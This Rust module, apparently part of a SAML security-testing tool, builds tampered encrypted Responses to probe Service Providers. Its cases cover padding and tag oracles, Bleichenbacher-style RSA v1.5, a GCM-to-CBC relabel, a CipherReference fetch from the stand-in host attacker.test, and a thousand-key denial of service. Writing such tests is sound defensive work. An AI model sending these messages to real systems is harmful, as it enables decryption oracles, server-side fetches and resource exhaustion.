//! Attacks on the ciphertext: what an SP may tell about a padding, a tag or a key, and what it may fetch to decrypt.
//!
//! The Assertion inside is genuine and signed; a signature of the Response is dropped, so that the ciphertext is anyone's.

use super::{Attack, ORDINARY, has_encrypted_signed_assertion};
use crate::base64;
use crate::encrypt::{Cipher, Encryption, KeyTransport, Scheme};
use crate::recipe::{Recipe, RecipeError};
use crate::step::Step;
use crate::tree::Element;
use crate::workshop::Workshop;

/// The IdP's own Assertion in a ciphertext that was changed on its way.
const CHANGED: Attack = Attack {
    live: false,
    needs: "encryption and a signed Assertion",
    applies: has_encrypted_signed_assertion,
    ..ORDINARY
};

const CHANGED_GCM: Attack =
    Attack { needs: "encryption in GCM mode and a signed Assertion", applies: has_gcm, ..CHANGED };

fn has_gcm(recipe: &Recipe) -> bool {
    let is_gcm = |cipher| matches!(cipher, Cipher::Aes128Gcm | Cipher::Aes192Gcm | Cipher::Aes256Gcm);
    has_encrypted_signed_assertion(recipe) && recipe.encrypt.is_some_and(|encryption| is_gcm(encryption.cipher))
}

/// The element of this name in the EncryptedAssertion, wherever the vendor puts it.
fn part<'w>(workshop: &'w mut Workshop<'_>, local: &'static str) -> Result<&'w mut Element, RecipeError> {
    workshop.strip_response_signature();
    let encrypted =
        workshop.response.child_mut("EncryptedAssertion").ok_or(RecipeError::Missing("EncryptedAssertion"))?;
    find(encrypted, local).ok_or(RecipeError::Missing(local))
}

fn find<'e>(element: &'e mut Element, local: &str) -> Option<&'e mut Element> {
    if element.local() == local {
        return Some(element);
    }
    element.elements_mut().find_map(|child| find(child, local))
}

/// Changes the octets in the CipherValue of EncryptedData or EncryptedKey.
fn change_octets(
    workshop: &mut Workshop<'_>,
    holder: &'static str,
    change: impl FnOnce(&mut Vec<u8>),
) -> Result<(), RecipeError> {
    let value = part(workshop, holder)?.at_mut(&["CipherData", "CipherValue"]);
    let value = value.ok_or(RecipeError::Missing("CipherValue"))?;
    let text: String = value.text().split_whitespace().collect();
    let mut octets = base64::decode(&text).ok_or(RecipeError::Missing("CipherValue"))?;
    change(&mut octets);
    value.say(base64::encode(&octets));
    Ok(())
}

fn name_method(workshop: &mut Workshop<'_>, holder: &'static str, uri: &str) -> Result<(), RecipeError> {
    let method = part(workshop, holder)?.child_mut("EncryptionMethod");
    method.ok_or(RecipeError::Missing("EncryptionMethod"))?.set("Algorithm", uri);
    Ok(())
}

pub(super) const CIPHERTEXT_CHANGED: Attack = Attack {
    id: "ciphertext_changed",
    about: "The first octet of the ciphertext is another: that it shows as a tag or as broken markup must not be told.",
    source: "ENC-02; CVE-2011-1096; Jager and Somorovsky, How to Break XML Encryption, 2011",
    // In CBC mode the first octet of what decrypts, a `<`, changes with it.
    steps: &[Step::Signed(|workshop| change_octets(workshop, "EncryptedData", |octets| flip_first(octets)))],
    ..CHANGED
};

fn flip_first(octets: &mut [u8]) {
    octets.iter_mut().take(1).for_each(|octet| *octet ^= 1);
}

pub(super) const CIPHERTEXT_CUT: Attack = Attack {
    id: "ciphertext_cut",
    about: "The last octet of the ciphertext is missing.",
    source: "ENC-02; ENC-04; XML Encryption 5.2",
    steps: &[Step::Signed(|workshop| {
        change_octets(workshop, "EncryptedData", |octets| octets.truncate(octets.len().saturating_sub(1)))
    })],
    ..CHANGED
};

pub(super) const CIPHERTEXT_IV_ONLY: Attack = Attack {
    id: "ciphertext_iv_only",
    about: "The ciphertext ends behind its first sixteen octets, the IV of CBC: there is no block, and no padding to read.",
    source: "ENC-04; GO-2026-4760",
    steps: &[Step::Signed(|workshop| change_octets(workshop, "EncryptedData", |octets| octets.truncate(16)))],
    ..CHANGED
};

pub(super) const CIPHERTEXT_EMPTY: Attack = Attack {
    id: "ciphertext_empty",
    about: "The ciphertext has no octets at all.",
    source: "ENC-04; ENC-12",
    steps: &[Step::Signed(|workshop| change_octets(workshop, "EncryptedData", Vec::clear))],
    ..CHANGED
};

pub(super) const WRAPPED_KEY_CHANGED: Attack = Attack {
    id: "wrapped_key_changed",
    about: "One octet of the encrypted content key is another, so that it decrypts to nothing.",
    source: "ENC-03; Jager, Schinzel and Somorovsky, Bleichenbacher's Attack Strikes Again, 2012",
    steps: &[Step::Signed(|workshop| change_octets(workshop, "EncryptedKey", |octets| flip_first(octets)))],
    ..CHANGED
};

pub(super) const GCM_SHORT_TAG: Attack = Attack {
    id: "gcm_short_tag",
    about: "Twelve of the sixteen octets of the authentication tag are missing.",
    source: "ENC-04; CVE-2026-32313",
    steps: &[Step::Signed(|workshop| {
        change_octets(workshop, "EncryptedData", |octets| octets.truncate(octets.len().saturating_sub(12)))
    })],
    ..CHANGED_GCM
};

pub(super) const GCM_NAMED_CBC: Attack = Attack {
    id: "gcm_named_cbc",
    about: "A ciphertext in GCM mode is called one in CBC mode, so that nothing authenticates it.",
    source: "ENC-05; Jager, Paterson and Somorovsky, One Bad Apple, 2013",
    steps: &[Step::Signed(gcm_named_cbc)],
    ..CHANGED_GCM
};

fn gcm_named_cbc(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let cbc = match workshop.recipe.encrypt.map(|encryption| encryption.cipher) {
        Some(Cipher::Aes128Gcm) => Cipher::Aes128Cbc,
        Some(Cipher::Aes192Gcm) => Cipher::Aes192Cbc,
        _ => Cipher::Aes256Cbc,
    };
    // Never whole blocks, so that what an SP does with it does not depend on chance.
    change_octets(workshop, "EncryptedData", |octets| octets.extend((octets.len() % 16 == 0).then_some(0)))?;
    name_method(workshop, "EncryptedData", cbc.uri())
}

pub(super) const UNKNOWN_CIPHER: Attack = Attack {
    id: "unknown_cipher",
    about: "The cipher is called one that does not exist, so that an SP might take the content as it stands.",
    source: "ENC-05; XML Encryption 5.1",
    steps: &[Step::Signed(|workshop| name_method(workshop, "EncryptedData", "urn:samlspec:no-such-cipher"))],
    ..CHANGED
};

pub(super) const RSA_1_5: Attack = Attack {
    id: "rsa_1_5",
    about: "The content key comes by RSA PKCS#1 v1.5: an SP that takes it tells by its paddings, octet by octet, what it holds.",
    source: "ENC-03; Jager, Schinzel and Somorovsky, Bleichenbacher's Attack Strikes Again, 2012",
    steps: &[Step::Signed(rsa_1_5)],
    ..CHANGED
};

/// The same message with that transport: whoever has the SP's key can open it, and should not try.
fn rsa_1_5(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let transport = KeyTransport { scheme: Scheme::Pkcs1, ..KeyTransport::default() };
    let encrypt = workshop.recipe.encrypt.map(|encryption| Encryption { transport, ..encryption });
    workshop.response = Workshop::response_of(&Recipe { encrypt, ..workshop.recipe.clone() })?;
    workshop.strip_response_signature();
    Ok(())
}

pub(super) const CIPHER_REFERENCE: Attack = Attack {
    id: "cipher_reference",
    about: "The ciphertext is to be fetched from a URL.",
    source: "ENC-08; XML Encryption 3.3.1",
    steps: &[Step::Signed(cipher_reference)],
    ..CHANGED
};

fn cipher_reference(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let data = part(workshop, "EncryptedData")?.child_mut("CipherData").ok_or(RecipeError::Missing("CipherData"))?;
    let mut value = data.take("CipherValue").ok_or(RecipeError::Missing("CipherValue"))?;
    value.name = value.name.replace("CipherValue", "CipherReference");
    value.children.clear();
    data.push(value.with("URI", "https://attacker.test/ciphertext"));
    Ok(())
}

pub(super) const THOUSAND_ENCRYPTED_KEYS: Attack = Attack {
    id: "thousand_encrypted_keys",
    about: "A thousand EncryptedKeys stand beside the data: trying each of them costs an RSA decryption.",
    source: "ENC-07; ENC-03",
    steps: &[Step::Signed(thousand_encrypted_keys)],
    ..CHANGED
};

fn thousand_encrypted_keys(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let mut key = part(workshop, "EncryptedKey")?.clone();
    // Nothing in it may need a prefix that is declared elsewhere.
    key.unset("Id");
    key.take("KeyInfo");
    key.child_mut("EncryptionMethod").ok_or(RecipeError::Missing("EncryptionMethod"))?.children.clear();
    super::tools::rebind(&mut key, crate::names::XENC);
    let encrypted = part(workshop, "EncryptedAssertion")?;
    (0..1000).for_each(|_| encrypted.push(key.clone()));
    Ok(())
}
